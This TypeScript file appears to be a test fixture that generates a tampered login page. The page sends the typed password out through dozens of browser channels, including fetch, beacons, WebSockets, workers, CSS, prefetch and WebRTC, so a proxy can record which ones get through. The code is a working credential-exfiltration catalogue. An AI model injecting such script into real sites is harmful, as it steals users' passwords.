/**
 * A login page that somebody tampered with: once Enter is pressed it tries every way that a browser knows to get what
 * was typed to another host. Each way has a host of its own, so that it can be told which were tried.
 */

/** Name -> script. `at` is the way's own address, `http://host:port`, and `secret` the password as a word. */
const SCRIPTS = {
  popup: 'open(at + "/?" + secret)',
  'popup without opener': 'open(at + "/?" + secret, "_blank", "noopener")',
  'popup that was open already': 'early.location = at + "/?" + secret',
  'popup of a blob':
    'open(blob("<script>fetch(" + JSON.stringify(at + "/" + secret) + ")</" + "script>", "text/html"))',
  'form to a new tab': 'form(at, "_blank")',
  'form to a frame': 'add("iframe", { name: "target" }); form(at, "target")',
  'WebSocket of the page': 'new WebSocket(ws(at))',
  'WebSocket of a worker': 'new Worker(blob("new WebSocket(" + JSON.stringify(ws(at)) + ")", "text/javascript"))',
  'WebSocket of a shared worker':
    'new SharedWorker(blob("new WebSocket(" + JSON.stringify(ws(at)) + ")", "text/javascript"))',
  'WebSocket of a frame': 'frame("<script>new WebSocket(" + JSON.stringify(ws(at)) + ")</" + "script>")',
  'fetch of a worker': 'new Worker(blob("fetch(" + JSON.stringify(at + "/" + secret) + ")", "text/javascript"))',
  'service worker': 'navigator.serviceWorker.register("/worker.js?to=" + encodeURIComponent(at + "/" + secret))',
  EventSource: 'new EventSource(at + "/" + secret)',
  fetch: 'fetch(at, { method: "POST", mode: "no-cors", body: secret })',
  'fetch kept alive': 'fetch(at, { method: "POST", mode: "no-cors", keepalive: true, body: secret })',
  'fetch later': 'fetchLater(at + "/" + secret, { activateAfter: 0 })',
  XMLHttpRequest: 'const x = new XMLHttpRequest(); x.open("POST", at); x.send(secret)',
  beacon: 'navigator.sendBeacon(at, secret)',
  image: 'new Image().src = at + "/" + btoa(secret)',
  'image with a Referer': 'Object.assign(new Image(), { referrerPolicy: "unsafe-url", src: at })',
  'image of an SVG': 'add("p").innerHTML = "<svg><image href=\'" + at + "/" + secret + "\'/></svg>"',
  script: 'add("script", { src: at + "/" + hex(secret) })',
  module: 'import(at + "/" + secret)',
  stylesheet: 'add("link", { rel: "stylesheet", href: at + "/" + hex(secret) })',
  'imported stylesheet': 'style("@import url(" + at + "/" + secret + ")")',
  'background of a style': 'add("div", { style: "width:9px;height:9px;background:url(" + at + "/" + secret + ")" })',
  font: 'style("@font-face { font-family: f; src: url(" + at + "/" + secret + ") } body { font-family: f }"); add("p", { textContent: "text" })',
  object: 'add("object", { data: at + "/" + secret, type: "text/html" })',
  embed: 'add("embed", { src: at + "/" + secret, type: "text/html" })',
  frame: 'add("iframe", { src: at + "/" + secret })',
  'navigation of a frame': 'frame("<script>location = " + JSON.stringify(at + "/" + secret) + "</" + "script>")',
  'refresh by meta': 'frame("<meta http-equiv=refresh content=\'0;url=" + at + "/" + secret + "\'>")',
  'frame opened by a redirect': 'add("iframe", { src: "/redirect?to=" + encodeURIComponent(at + "/" + secret) })',
  prefetch: 'add("link", { rel: "prefetch", href: at + "/" + secret })',
  preload: 'add("link", { rel: "preload", as: "image", href: at + "/" + secret })',
  modulepreload: 'add("link", { rel: "modulepreload", href: at + "/" + secret })',
  preconnect: 'add("link", { rel: "preconnect", href: at.replace("http:", "https:") })',
  'name lookup': 'add("link", { rel: "dns-prefetch", href: at })',
  'download in a frame':
    'frame("<a download=f href=" + at + "/" + secret + ">x</a><script>document.links[0].click()</" + "script>")',
  ping: 'add("a", { href: "#here", ping: at + "/" + secret }).click()',
  'WebRTC over UDP': 'rtc("stun:" + at.slice(7))',
  'WebRTC over TCP': 'rtc("turn:" + at.slice(7) + "?transport=tcp")',
  'WebRTC to a peer': 'peer(at.slice(7))',
  WebTransport: 'new WebTransport(at.replace("http:", "https:") + "/" + secret).ready',
} as const;

/** Ways that never come to the proxy, since the browser gives up before. */
export const NOT_ASKED: readonly Way[] = ['preconnect', 'name lookup', 'WebRTC over UDP', 'WebTransport'];

export type Way = keyof typeof SCRIPTS;
export const WAYS = Object.keys(SCRIPTS) as Way[];

/** `hostOf` gives each way its own `host:port`. The page asks for `/tried` when it has tried them all. */
export function tamperedPage(hostOf: (way: Way) => string): string {
  const tries = WAYS.map((way) => `attempt(async (at) => { ${SCRIPTS[way]} }, "http://${hostOf(way)}");`);
  return `<!doctype html><body><input id=username><input id=password type=password><script>
    const hex = (text) => [...text].map((letter) => letter.charCodeAt(0).toString(16)).join('');
    const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }));
    const add = (name, values = {}) => {
      const element = document.createElement(name);
      for (const [key, value] of Object.entries(values)) key in element && key !== 'style' ? (element[key] = value) : element.setAttribute(key, value);
      return document.body.appendChild(element);
    };
    const style = (textContent) => add('style', { textContent });
    const frame = (srcdoc) => add('iframe', { srcdoc });
    const ws = (at) => at.replace('http:', 'ws:') + '/' + secret;
    const form = (action, target) => {
      const form = add('form', { action, target, method: 'post' });
      form.append(Object.assign(document.createElement('input'), { name: 'p', value: secret }));
      form.submit();
    };
    const rtc = async (urls) => {
      const connection = new RTCPeerConnection({ iceServers: [{ urls, username: secret, credential: secret }] });
      connection.createDataChannel('data');
      await connection.setLocalDescription(await connection.createOffer());
      if (connection.iceGatheringState === 'complete') return;
      await new Promise((resolve) => connection.addEventListener('icegatheringstatechange', resolve));
    };
    const peer = async (host) => {
      const [one, other] = [new RTCPeerConnection(), new RTCPeerConnection()];
      one.createDataChannel('data');
      await one.setLocalDescription(await one.createOffer());
      await other.setRemoteDescription(one.localDescription);
      const { sdp } = await other.createAnswer();
      const [address, port] = host.split(':');
      const candidates = ['udp', 'tcp'].map((kind) =>
        'a=candidate:1 1 ' + kind + ' 2130706431 ' + address + ' ' + port + ' typ host' + (kind === 'tcp' ? ' tcptype passive' : ''));
      const told = sdp.replace(/ice-ufrag:.*/, 'ice-ufrag:' + secret) + candidates.join('\\r\\n') + '\\r\\n';
      await one.setRemoteDescription({ type: 'answer', sdp: told });
      if (one.iceConnectionState !== 'failed') await new Promise((resolve) => setTimeout(resolve, 500));
    };
    const attempt = (act, at) => act(at).catch(() => {});
    let secret, early;
    const leave = async () => {
      secret = hex(document.getElementById('password').value);
      early = open('about:blank');
      add('a', { href: blob(secret, 'text/plain'), download: 'stolen.txt' }).click();
      ${tries.join('\n      ')}
      await fetch('/tried');
      document.cookie = 'SESSION=from-the-page; path=/';
      location.hash = '#/overview';
    };
    addEventListener('keydown', ({ key }) => key === 'Enter' && (history.replaceState(null, '', '/?' + btoa(document.getElementById('password').value)), leave()));
  </script>`;
}

/** The script of `/worker.js?to=`. */
export const SERVICE_WORKER = "fetch(new URL(location).searchParams.get('to'), { mode: 'no-cors' }).catch(() => {});";
